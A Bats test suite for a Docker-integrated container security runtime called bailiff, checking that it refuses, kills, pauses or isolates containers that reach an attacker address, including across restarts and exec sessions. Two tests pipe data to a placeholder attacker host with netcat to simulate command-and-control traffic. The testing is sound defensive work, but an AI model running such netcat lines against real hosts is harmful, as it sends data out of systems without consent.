#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# Docker, configured as examples/docker says.

load story
load calls
# shellcheck source=tests/harness/engine_docker.sh
source "$E2E_DIR/../harness/engine_docker.sh"

setup_file() {
  story_open
  export STORY_RULES=$RULES
  calls_open
  export CALLS_RULES=$RULES RULES=$STORY_RULES
  docker_open "$ROOTFS"
}
teardown_file() { story_close; }
setup() { attacker_forget_packets; }
teardown() {
  local -a all
  mapfile -t all < <(docker ps --all --quiet)
  ((${#all[@]} == 0)) || docker rm --force "${all[@]}"
  story_quiet
}

# protects [JQ]: dockerd takes examples/docker/daemon.json for this service.
protects() {
  local config
  config=$(jq --arg path "$BAILIFF_BIN/bailiff-runc" \
    --arg service "$SVC/bailiff.yaml" '.runtimes.bailiff =
      {path: $path, runtimeArgs: ["--bailiff-config", $service]}
      | '"${1:-.}" "$REPO_DIR/examples/docker/daemon.json")
  docker_reload "$config"
  wait_until 10 "dockerd to take it" docker_has_runtime
}
docker_has_runtime() {
  docker info --format '{{json .Runtimes.bailiff}}' | grep -F "$SVC/"
}

# shop [FLAG of docker run...] -- COMMAND...
shop() {
  local flags=()
  while [[ $1 != -- ]]; do
    flags+=("$1")
    shift
  done
  shift
  docker run --name shop "${flags[@]}" registry.example/shop:1.4 "$@"
}

# docker_says TEMPLATE WANTED: of the container 'shop'.
docker_says() { [[ $(docker inspect --format "$1" shop) == "$2" ]]; }

# in_shop_connect ADDRESS
in_shop_connect() {
  local command
  mapfile -d '' -t command < <(connects_to "$1")
  docker exec shop "${command[@]}"
}

@test "refused, and what is not listed reached" {
  service "$REFUSE_POLICY"
  protects
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run shop --rm -- "${command[@]}"
  says "Operation not permitted"
  mapfile -d '' -t command < <(connects_to "$HARMLESS4")
  run shop --rm -- "${command[@]}"
  says reached
  (($(attacker_packets) == 0))
  event "$C2_RULE" '.bailiff.verdict == "denied"
    and .bailiff.container.name == "shop"
    and .bailiff.container.image == "registry.example/shop:1.4"'
}

@test "killed, and Docker knows" {
  service "$KILL_POLICY"
  protects
  run shop -- sh -c "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
  ((status == 137))
  (($(attacker_packets) == 0))
  id=$(docker inspect --format '{{.Id}}' shop)
  event "$C2_RULE" ".bailiff.container.id == \"$id\"
    and .bailiff.policy == \"$BLOCK_POLICY\"
    and .bailiff.outcome == \"killed\""
  docker_says '{{.State.Status}} {{.State.ExitCode}}' "exited 137"
  docker rm shop
  nothing_left_of "$id"
}

# comes_back POLICY: twice the container is killed and twice it is back, with
# new processes only.
comes_back() {
  service "$KILL_POLICY"
  protects
  shop --detach --restart "$1" -- sleep 300
  for count in 1 2; do
    docker exec --detach shop sleep 400
    run in_shop_connect "$ATTACKER4"
    wait_until 20 "Docker to start it again" docker_says \
      '{{.RestartCount}} {{.State.Status}}' "$count running"
    run -0 docker top shop -eo pid,args
    [[ $output != *"sleep 400"* ]]
  done
  (($(attacker_packets) == 0))
  event "$C2_RULE" '.bailiff.outcome == "killed"'
  run -0 bailiff_api ps
  says shop
}

@test "restarted on failure it is protected again" { comes_back on-failure; }

@test "restarted always it is protected again" { comes_back always; }

@test "stopped it stays so, whatever its restart policy" {
  service "$PAUSE_POLICY"
  protects
  shop --detach --restart always -- sleep 300
  run -0 bailiff_api stop shop --grace 1s
  event "Response ended" '.bailiff.response == "stop"'
  wait_until 10 "Docker to know" docker_says '{{.State.Status}}' exited
  docker_says '{{.RestartCount}}' 0
}

@test "Docker knows of a pause and of its end" {
  service "$PAUSE_POLICY"
  protects
  shop --detach -- sh -c \
    "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
  event "$C2_RULE" '.bailiff.outcome == "paused"'
  wait_until 10 "Docker to know" docker_says '{{.State.Status}}' paused
  run -0 docker ps --format '{{.Names}} {{.Status}}'
  says "(Paused)"
  run -0 bailiff_api resume shop
  docker_says '{{.State.Status}}' running
  docker exec shop true
}

@test "a pause that is ended through Docker is over" {
  service "$PAUSE_POLICY"
  protects
  shop --detach -- sleep 300
  run -0 bailiff_api pause shop
  wait_until 10 "Docker to know" docker_says '{{.State.Status}}' paused
  docker unpause shop
  docker exec shop true
  event "Response ended" '.bailiff.outcome == "resumed"'
  run -0 bailiff_api pause shop
  wait_until 10 "Docker to know" docker_says '{{.State.Status}}' paused
}

@test "isolated, and released" {
  service "$REFUSE_POLICY"
  protects
  shop --detach -- sleep 300
  run -0 bailiff_api isolate shop
  run in_shop_connect "$HARMLESS4"
  says "Operation not permitted"
  run -0 bailiff_api release shop
  run in_shop_connect "$HARMLESS4"
  says reached
}

@test "exec is covered" {
  service "$REFUSE_POLICY"
  protects
  shop --detach -- sleep 300
  run in_shop_connect "$ATTACKER4"
  says "Operation not permitted"
  docker update --cpu-shares 512 shop
  docker restart --time 0 shop
  run in_shop_connect "$ATTACKER4"
  says "Operation not permitted"
  (($(attacker_packets) == 0))
}

@test "with another default-runtime, only who asks for it is protected" {
  service "$REFUSE_POLICY"
  protects '."default-runtime" = "runc"'
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run shop --rm -- "${command[@]}"
  says reached
  run shop --rm --runtime bailiff -- "${command[@]}"
  says "Operation not permitted"
}

@test "a container that cannot be protected does not start, and Docker says why" {
  service "$REFUSE_POLICY"
  protects
  service_stop
  truncate --size=-9 "$SVC/state/policy.bin"
  run shop -- echo alive
  ((status != 0))
  [[ $output != *alive* ]]
  says policy.bin
  docker_says '{{.State.Status}}' created
}

@test "Docker's own profile is extended" {
  RULES=$CALLS_RULES service "$SCRATCH/rules/calls.yaml"
  protects
  shop --detach --tmpfs /tmp -- sleep 300
  run docker exec shop /bin/calls "${ALL_CALLS[@]}"
  calls_refused
  docker rm --force shop
  run shop --tmpfs /tmp -- /bin/calls "${ALL_CALLS[@]}"
  calls_refused
  event "Folder made" '.bailiff.verdict == "denied"
    and .bailiff.container.name == "shop"'
}

@test "what Docker's own profile refuses stays refused" {
  RULES=$CALLS_RULES service "$SCRATCH/rules/calls.yaml"
  protects
  run shop --rm --tmpfs /tmp -- unshare --user true
  says "Operation not permitted"
  run shop --rm --tmpfs /tmp --security-opt seccomp=unconfined -- \
    unshare --user true
  ((status == 0))
}

@test "a container without a profile" {
  RULES=$CALLS_RULES service "$SCRATCH/rules/calls.yaml"
  protects
  run shop --rm --security-opt seccomp=unconfined --tmpfs /tmp -- /bin/calls "${ALL_CALLS[@]}"
  calls_refused
}
